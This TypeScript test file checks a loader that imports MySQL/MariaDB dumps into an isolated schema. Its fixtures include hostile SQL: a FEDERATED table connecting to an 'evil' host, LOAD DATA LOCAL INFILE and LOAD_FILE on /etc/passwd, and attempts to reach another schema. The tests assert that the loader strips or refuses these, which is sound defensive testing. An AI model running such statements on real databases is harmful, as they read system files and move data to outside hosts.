import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { openDump } from '../../../src/import/dump/open-dump.js';
import { declareUtf8 } from '../../../src/import/latin1.js';
import { type Loaded, loadDump } from '../../../src/import/load.js';
import { silent } from '../../../src/output/messages.js';
import { Secret } from '../../../src/output/secret.js';
import { run } from '../../../src/process/run.js';
import { connectForBytes } from '../../../src/sql/bytes-connection.js';
import { type OneServer, startOne } from '../content/rewrite/one-server.js';

const signal = new AbortController().signal;

describe('loading a dump', () => {
  let server: OneServer;
  beforeAll(async () => {
    server = await startOne(2);
    await server.sql(`SET GLOBAL max_allowed_packet = 268435456;
      CREATE USER 'load'@'%' IDENTIFIED BY 'loading-only'; GRANT ALL ON \`site\\_\\_incoming\`.* TO 'load'@'%'`);
  });
  afterAll(() => server.remove());
  beforeEach(() => server.sql('DROP DATABASE IF EXISTS site; CREATE DATABASE site CHARACTER SET utf8mb4'));

  async function load(dump: string | Buffer, options: { schema?: string; prefix?: string } = {}): Promise<Loaded> {
    const file = join(server.folder, 'dump.sql');
    await writeFile(file, dump);
    const connection = await connectForBytes({
      host: server.address,
      port: 3306,
      user: 'load',
      password: new Secret('loading-only'),
    });
    try {
      return await loadDump({
        connection,
        into: 'site__incoming',
        dump: await openDump(file),
        schema: options.schema,
        prefix: options.prefix,
        report: silent,
        signal,
      });
    } finally {
      connection.destroy();
    }
  }
  const mariadbDump = async (args: readonly string[] = []) => {
    const file = join(server.folder, 'made.sql');
    await run('mariadb-dump', [
      '--no-defaults',
      '-uroot',
      `--socket=${server.folder}/data/s`,
      `--result-file=${file}`,
      ...args,
      'site',
    ]);
    return readFile(file);
  };
  const checksum = (schema: string, tables: string) =>
    server
      .sql(`USE ${schema}; SET NAMES utf8mb4; CHECKSUM TABLE ${tables}`)
      .then((text) => text.replaceAll(`${schema}.`, ''));

  it('gives what mariadb-dump has taken, byte by byte, with every way of dumping', async () => {
    await server.sql(`USE site; SET NAMES utf8mb4;
      CREATE TABLE t (id INT PRIMARY KEY AUTO_INCREMENT, a LONGTEXT, b LONGBLOB, c VARCHAR(99) CHARACTER SET latin1, d TIMESTAMP NULL, e DOUBLE, f BIT(9), g JSON, h DATETIME(6), i DECIMAL(30,10));
      INSERT INTO t (a, b, c, d, e, f, g, h, i) VALUES ('Grüße 🎭 ; -- /* \\' " \\\\ \\n', 0x00ff1a27225c0a3b, 'äß', '2020-01-01 00:00:00', 1e-300, b'101', '{"a": "\\\\u00fc"}', '2021-02-03 04:05:06.789', 12345678901234567890.5), (NULL, '', '', NULL, -0.1, NULL, '[]', NULL, NULL);
      INSERT INTO t (id, a) VALUES (100, REPEAT('x;', 2000000));
      CREATE TABLE z (id INT PRIMARY KEY AUTO_INCREMENT); SET sql_mode = 'NO_AUTO_VALUE_ON_ZERO'; INSERT INTO z VALUES (0), (5);`);
    const before = await checksum('site', 't, z');
    for (const args of [
      [],
      ['--hex-blob', '--skip-extended-insert'],
      ['--complete-insert', '--databases'],
      ['--skip-opt'],
      ['--compatible=ansi', '--default-character-set=utf8mb4'],
      ['--tz-utc=0'],
    ]) {
      const loaded = await load(await mariadbDump(args));
      expect(await checksum('site__incoming', 't, z'), args.join(' ')).toBe(before);
      expect(loaded.warnings, args.join(' ')).toEqual([]);
      expect(loaded.remarks.isComplete).toBe(true);
    }
  });

  it('takes a row of 64 MB', async () => {
    const value = Buffer.alloc(64 * 1024 * 1024, `${'x'.repeat(63)}'`);
    const dump = Buffer.concat([
      Buffer.from("CREATE TABLE t (a LONGBLOB);\nINSERT INTO t VALUES ('"),
      Buffer.from(value.toString('latin1').replaceAll("'", "\\'"), 'latin1'),
      Buffer.from("');\n"),
    ]);
    await load(dump);
    expect(await server.sql('SELECT LENGTH(a) FROM site__incoming.t')).toBe(String(value.length));
  });

  it('knows what other servers and programs write', async () => {
    const loaded = await load(`-- MySQL dump 10.13  Distrib 8.0.36, for Linux (x86_64)
-- Server version\t8.0.36-0ubuntu0.22.04.1
/*!40101 SET NAMES utf8mb4 */; /*!50503 SET NAMES utf8mb4 */;
SET @MYSQLDUMP_TEMP_LOG_BIN = @@SESSION.SQL_LOG_BIN; SET @@SESSION.SQL_LOG_BIN= 0;
SET @@GLOBAL.GTID_PURGED=/*!80000 '+'*/ '';
CREATE DATABASE /*!32312 IF NOT EXISTS*/ \`shop\` /*!40100 DEFAULT CHARACTER SET utf8mb4 COLLATE utf8mb4_0900_ai_ci */ /*!80016 DEFAULT ENCRYPTION='N' */;
USE \`shop\`;
CREATE TABLE \`wp_options\` (\`option_id\` bigint unsigned NOT NULL AUTO_INCREMENT, \`option_name\` varchar(191) COLLATE utf8mb4_0900_ai_ci NOT NULL, \`option_value\` longtext COLLATE utf8mb4_uca9999_ai_ci, \`autoload\` varchar(20) /*!80023 INVISIBLE */, PRIMARY KEY (\`option_id\`)) ENGINE=MyISAM ROW_FORMAT=FIXED DEFAULT CHARSET=utf8mb4 COLLATE=utf8mb4_0900_ai_ci;
LOCK TABLES \`wp_options\` WRITE;
/*!40000 ALTER TABLE \`wp_options\` DISABLE KEYS */;
INSERT INTO \`shop\`.\`wp_options\` (\`option_id\`, \`option_name\`, \`option_value\`) VALUES (1,'home','https://old.example'),(2,'x','/home/u1/htdocs/wp-content/x');
UNLOCK TABLES;
CREATE TABLE wp_posts (a INT) ENGINE=FEDERATED CONNECTION='mysql://root@evil/x/y';
CREATE TABLE seq (a INT, b INT NOT NULL AUTO_INCREMENT, KEY (a, b)) ENGINE=MyISAM;
/*!50001 CREATE VIEW v AS SELECT 1 AS option_id */;
/*!50001 DROP VIEW IF EXISTS v*/;
/*!50001 CREATE ALGORITHM=UNDEFINED */ /*!50013 DEFINER=\`gone\`@\`%\` SQL SECURITY DEFINER */ /*!50001 VIEW \`v\` AS select \`shop\`.\`wp_options\`.\`option_id\` from \`shop\`.\`wp_options\` */;
DELIMITER ;;
/*!50003 CREATE*/ /*!50017 DEFINER=\`root\`@\`localhost\`*/ /*!50003 TRIGGER t BEFORE INSERT ON wp_posts FOR EACH ROW BEGIN SET @a = 1; SET @b = 2; END */;;
DELIMITER ;
LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE wp_posts;
SET GLOBAL general_log = 1;
-- Dump completed on 2024-01-31 12:00:00
`);
    expect(loaded.collations).toMatchObject({ utf8mb4_0900_ai_ci: expect.stringMatching(/^utf8mb4_/) });
    expect(loaded.engines).toEqual([
      { table: 'wp_options', before: 'MyISAM', kept: false },
      { table: 'wp_posts', before: 'FEDERATED', kept: false },
      { table: 'seq', before: 'MyISAM', kept: true },
    ]);
    expect(loaded.views).toEqual([
      {
        name: 'v',
        text: 'CREATE OR REPLACE SQL SECURITY INVOKER VIEW `v` AS select `wp_options`.`option_id` from `wp_options`',
      },
    ]);
    expect(loaded.survey).toMatchObject({
      prefixes: ['wp_'],
      options: { home: 'https://old.example' },
      diskPaths: [{ table: 'wp_options', count: 1, example: '/home/u1/htdocs/wp-content' }],
    });
    const leftOut = loaded.survey.leftOut.map(({ what }) => what).join('|');
    for (const what of ['TRIGGER', 'LOAD DATA', 'general_log']) expect(leftOut).toContain(what);
    expect(loaded.remarks).toEqual({ dumper: 'MySQL dump', server: '8.0.36-0ubuntu0.22.04.1', isComplete: true });
  });

  it('never reaches another schema, whatever the dump says', async () => {
    await server.sql('CREATE TABLE site.t (a INT); INSERT INTO site.t VALUES (1)');
    for (const statement of [
      'CREATE TABLE x AS SELECT * FROM site.t',
      'INSERT INTO site.t VALUES (2)',
      "CREATE TABLE x AS SELECT LOAD_FILE('/etc/passwd') AS a FROM mysql.user",
    ]) {
      const done = await load(`CREATE TABLE y (a INT); ${statement};`).catch((error) => error);
      expect(
        await server.sql(
          "SELECT COUNT(*) FROM information_schema.TABLES WHERE TABLE_SCHEMA = 'site__incoming' AND TABLE_NAME = 'x'",
        ),
        String(done),
      ).toBe('0');
    }
    expect(await server.sql('SELECT COUNT(*) FROM site.t')).toBe('1');
  });

  it('of several databases asks which, and takes the one that is said', async () => {
    const dump =
      'USE a; CREATE TABLE t (x INT); INSERT INTO t VALUES (1); USE b; CREATE TABLE t (x INT); INSERT INTO t VALUES (2);';
    await expect(load(dump)).rejects.toMatchObject({ code: 'several-schemas', kind: 'refused' });
    await load(dump, { schema: 'b' });
    expect(await server.sql('SELECT x FROM site__incoming.t')).toBe('2');
  });

  it('says which statement the server refuses, and that nothing was changed', async () => {
    await expect(load('CREATE TABLE t (x INT);\nINSERT INTO t VALUES (1,2);')).rejects.toMatchObject({
      code: 'dump-refused',
      message: expect.stringContaining('byte 23'),
    });
    await expect(load("CREATE TABLE t (x INT); INSERT INTO t VALUES ('a")).rejects.toMatchObject({
      code: 'dump-cut-off',
    });
    await expect(load('-- nothing')).rejects.toMatchObject({ code: 'dump-empty' });
  });

  it('declares Latin-1 columns that hold UTF-8 as what they are, and names those that are mixed', async () => {
    await load(
      `SET NAMES latin1; CREATE TABLE t (id INT PRIMARY KEY, utf8 VARCHAR(50) NOT NULL DEFAULT 'x', plain TEXT, mixed TEXT, ascii VARCHAR(9), KEY (utf8)) DEFAULT CHARSET=latin1;
      INSERT INTO t VALUES (1, '${Buffer.from('Grüße').toString('latin1')}', 'Gr\xfc\xdfe', '${Buffer.from('ü').toString('latin1')}', 'a'), (2, 'x', 'y', '\xfc', 'b');`.replace(
        /[\s\S]*/,
        (text) => text,
      ),
    );
    const connection = await server.connect('site__incoming');
    // The file was written as UTF-8, so what is Latin-1 in it is put in as bytes.
    await connection.query(
      "UPDATE t SET utf8 = CONVERT(CAST(_binary X'4772c3bcc39f65' AS BINARY) USING latin1), plain = CONVERT(_binary X'4772fcdf65' USING latin1), mixed = CONVERT(_binary X'c3bc' USING latin1) WHERE id = 1",
    );
    await connection.query("UPDATE t SET mixed = CONVERT(_binary X'fc' USING latin1) WHERE id = 2");
    const found = await declareUtf8(connection, 'site__incoming', signal);
    expect(found).toEqual({ converted: ['t.utf8'], unclear: ['t.plain', 't.mixed'] });
    expect(await connection.query('SELECT utf8, plain FROM t WHERE id = 1')).toEqual([
      { utf8: 'Grüße', plain: 'Grüße' },
    ]);
    await connection.end();
  });
});
